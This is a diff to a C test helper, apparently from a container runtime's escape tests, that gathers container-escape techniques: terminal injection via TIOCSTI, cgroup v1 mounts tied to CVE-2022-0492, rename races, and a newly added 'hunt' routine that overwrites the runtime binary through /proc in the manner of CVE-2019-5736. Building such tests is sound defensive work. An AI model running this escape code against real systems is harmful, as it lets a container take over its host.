@@ -1,15 +1,19 @@
 /*
  * escape: what an attacker has inside, in one static program, for tests/bats/54-escapes*.
  *
- *	try HANDLE MAJOR:MINOR		every lever in turn, "NAME worked" or "NAME CODE"; of the host: a file's handle, its disk
+ *	try HANDLE MAJOR:MINOR		every lever in turn, "NAME worked" or "NAME CODE"; with a file's handle
+ *					and the number of a disk of the host's
  *	handle FILE			that handle, in hexadecimal (on the host)
- *	swap A B			two names change places until the parent is gone
+ *	swap A B [A B]...		two names change places until the parent is gone, pair after pair
  *	type TEXT			pushes TEXT into the terminal of standard input (TIOCSTI)
- *	session ADD|-|NAME		adds a key to a new session keyring (of that NAME, open to all) and executes what follows
+ *	session -|NAME COMMAND...	adds a key to a new session keyring (of that NAME), open to all, and executes
  *	key				the key of the session keyring, if there is one
  *	id				the effective user id
+ *	hunt				opens the runtime's executable whenever it comes along, and writes to it;
+ *					until /stop is there
  *	exe PID				opens /proc/PID/exe, says "open", and writes to it when standard input ends
  */
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/bpf.h>
@@ -101,7 +105,10 @@ static int cgroup1(void) { return mount("none", "/tmp", "cgroup", 0, "none,name=
 static int mount_v1(void) { return unshare(CLONE_NEWNS) < 0 ? -1 : cgroup1(); }
 static int new_user(void) { return unshare(CLONE_NEWUSER); }
 /* The old agent of CVE-2022-0492: a user namespace first. */
-static int nested_cgroup1(void) { return unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? -1 : cgroup1(); }
+static int nested_cgroup1(void)
+{
+	return unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? -1 : cgroup1();
+}
 static int in_root_ns(void)
 {
 	int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
@@ -133,7 +140,8 @@ static int calls_uring(void)
 static int calls_uffd(void) { return (int)syscall(SYS_userfaultfd, 1); }
 static int calls_perf(void)
 {
-	struct perf_event_attr a = { .type = PERF_TYPE_SOFTWARE, .size = sizeof a, .config = PERF_COUNT_SW_CPU_CLOCK };
+	struct perf_event_attr a = { .type = PERF_TYPE_SOFTWARE, .size = sizeof a,
+				     .config = PERF_COUNT_SW_CPU_CLOCK };
 
 	return (int)syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
 }
@@ -163,7 +171,10 @@ static int calls_syslog(void)
 }
 static int calls_quota(void) { return (int)syscall(SYS_quotactl, 0x800002 << 8, "/dev/escape", 0, NULL); }
 static int calls_ports(void) { return (int)syscall(SYS_iopl, 3); }
-static int calls_keyctl(void) { return (int)syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1); }
+static int calls_keyctl(void)
+{
+	return (int)syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1);
+}
 static int calls_add_key(void)
 {
 	return (int)syscall(SYS_add_key, "user", "escape", "x", 1, KEY_SPEC_PROCESS_KEYRING);
@@ -196,7 +207,8 @@ static int try_all(void)
 {
 	for (size_t i = 0; i < sizeof levers / sizeof *levers; i++) {
 		/* Two of them are let in and then find no file: that is how they tell. */
-		int not_there = levers[i].run == calls_acct || levers[i].run == calls_swapon || levers[i].run == calls_quota;
+		int not_there = levers[i].run == calls_acct || levers[i].run == calls_swapon ||
+				levers[i].run == calls_quota;
 		int r = in_child(levers[i].run), code = errno;
 
 		if (r == 0 || !refused(code) || (not_there && code == ENOENT))
@@ -220,12 +232,13 @@ static int print_handle(const char *path)
 	return puts("") < 0;
 }
 
-static int swap(const char *a, const char *b)
+static int swap(char **pair, int n)
 {
 	pid_t parent = getppid();
 
 	while (getppid() == parent)
-		(void)renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
+		for (int i = 0; i + 1 < n; i += 2)
+			(void)renameat2(AT_FDCWD, pair[i], AT_FDCWD, pair[i + 1], RENAME_EXCHANGE);
 	return 0;
 }
 
@@ -283,6 +296,45 @@ static int overwrite(const char *pid)
 	return 0;
 }
 
+/* As the payload of CVE-2019-5736 does it: to read first, for it runs; to write as soon as nobody runs it. */
+static void seize(const char *pid)
+{
+	char path[320], to[256];
+	ssize_t n;
+	int fd, held;
+
+	snprintf(path, sizeof path, "/proc/%s/exe", pid);
+	n = readlink(path, to, sizeof to - 1);
+	to[n > 0 ? n : 0] = '\0';
+	/* All programs of the container itself lie there; the runtime's has a name that means nothing inside. */
+	if (n <= 0 || strncmp(to, "/bin/", 5) == 0 || (held = open(path, O_RDONLY | O_CLOEXEC)) < 0)
+		return;
+	puts("saw");
+	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+	while ((fd = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && access("/stop", F_OK) < 0)
+		;
+	if (fd >= 0 && write(fd, "#!pwned", 7) == 7)
+		puts("wrote");
+	fflush(stdout);
+	close(fd);
+	close(held);
+}
+
+static int hunt(void)
+{
+	puts("up");
+	fflush(stdout);
+	while (access("/stop", F_OK) < 0) {
+		DIR *d = opendir("/proc");
+
+		for (struct dirent *e; d && (e = readdir(d));)
+			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
+				seize(e->d_name);
+		closedir(d);
+	}
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	const char *verb = argc > 1 ? argv[1] : "", *a = argc > 2 ? argv[2] : "", *b = argc > 3 ? argv[3] : "";
@@ -291,12 +343,14 @@ int main(int argc, char **argv)
 		return host_handle = a, host_disk = b, try_all();
 	if (strcmp(verb, "handle") == 0 && argc == 3)
 		return print_handle(a);
-	if (strcmp(verb, "swap") == 0 && argc == 4)
-		return swap(a, b);
+	if (strcmp(verb, "swap") == 0 && argc > 3)
+		return swap(argv + 2, argc - 2);
 	if (strcmp(verb, "type") == 0 && argc == 3)
 		return type(a);
 	if (strcmp(verb, "session") == 0 && argc > 3)
 		return session(a, argv + 3);
+	if (strcmp(verb, "hunt") == 0)
+		return hunt();
 	if (strcmp(verb, "id") == 0)
 		return printf("%d\n", (int)geteuid()) < 0;
 	if (strcmp(verb, "key") == 0)
